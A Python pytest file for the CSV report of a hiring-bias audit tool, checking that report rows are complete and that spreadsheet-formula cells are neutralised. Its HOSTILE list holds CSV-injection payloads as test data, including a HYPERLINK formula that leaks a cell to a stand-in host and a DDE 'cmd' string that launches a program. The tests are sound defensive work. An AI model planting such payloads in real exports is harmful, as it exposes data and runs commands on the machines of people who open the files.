"""The CSV report: one row per (probe, attribute, group, metric), formula-safe (CONTRACT §7)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from audit.reports.csv_report import COLUMNS, FORMULA_PREFIXES, render_csv, safe_cell
from tests.audit.test_report import hiring_results

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTAB=1",
    "\rCR=1",
]


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _unquote(cell: str) -> str:
    return cell[1:] if cell.startswith("'") and cell[1:2] in FORMULA_PREFIXES else cell


def _hostile_results() -> dict[str, Any]:
    results = hiring_results()
    race = results["probes"][1]
    race["groups"] = [{**race["groups"][0], "group": name} for name in HOSTILE]
    results["findings"].append(
        {
            "probe": "demographic",
            "attribute": "race",
            "group": HOSTILE[0],
            "metric": "impact_ratio",
            "value": 0.5,
            "threshold": 0.8,
            "direction": "min",
            "status": "fail",
            "p_value": 0.01,
        }
    )
    return results


def test_every_cell_that_could_run_as_a_formula_is_quoted() -> None:
    text = render_csv(_hostile_results())
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == COLUMNS
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), row
    groups = {r["group"] for r in _rows(text)}
    assert "'" + HOSTILE[0] in groups and "'+cmd|' /C calc'!A0" in groups
    assert "'\tTAB=1" in groups and "'\rCR=1" in groups
    assert "'@SUM(1+1)" in groups and "'-2+3" in groups
    negative = [r for r in _rows(text) if r["metric"] == "score_gap" and r["group"] == "female"]
    assert negative and negative[0]["value"] == "'-0.04"  # negative numbers too, as §7 says


def test_safe_cell() -> None:
    assert safe_cell(None) == "" and safe_cell(True) == "true" and safe_cell(0.25) == "0.25"
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("a=1") == "a=1" and safe_cell(-1) == "'-1"


def test_one_row_per_group_metric_with_cis_and_findings() -> None:
    results = hiring_results()
    rows = _rows(render_csv(results))
    keys = [(r["probe"], r["attribute"], r["group"], r["metric"]) for r in rows]
    assert len(keys) == len(set(keys))
    by_key = dict(zip(keys, rows, strict=True))
    for entry in results["probes"]:
        for g in entry.get("groups", []):
            for metric in ("selection_rate", "impact_ratio", "tpr", "mean_score", "flip_rate"):
                if g.get(metric) is None:
                    continue
                row = by_key[(entry["kind"], entry["attribute"], g["group"], metric)]
                assert float(_unquote(row["value"])) == pytest.approx(g[metric])
                assert int(row["n"]) == g["n"]
                ci = g.get(f"{metric}_ci")
                if ci:
                    assert float(_unquote(row["ci_low"])) == pytest.approx(ci[0])
                    assert float(_unquote(row["ci_high"])) == pytest.approx(ci[1])
    for f in results["findings"]:  # every finding is a row with its threshold and status
        row = by_key[(f["probe"], f["attribute"], _cell(f["group"]), f["metric"])]
        assert row["status"] == f["status"] and float(row["threshold"]) == f["threshold"]
        assert float(_unquote(row["value"])) == pytest.approx(f["value"])
    unjudged = by_key[("demographic", "sex", "Female", "tpr")]
    assert unjudged["status"] == "" and unjudged["threshold"] == ""


def _cell(group: str) -> str:
    return safe_cell(group)


def test_findings_on_metrics_no_group_carries_are_rows() -> None:
    results = {
        "probes": [],
        "findings": [
            {
                "probe": "lda-search",
                "attribute": "race",
                "group": "best",
                "metric": "lda_available",
                "value": 1.0,
                "threshold": 0.0,
                "status": "fail",
            }
        ],
    }
    (row,) = _rows(render_csv(results))
    assert (row["probe"], row["metric"], row["status"]) == ("lda-search", "lda_available", "fail")
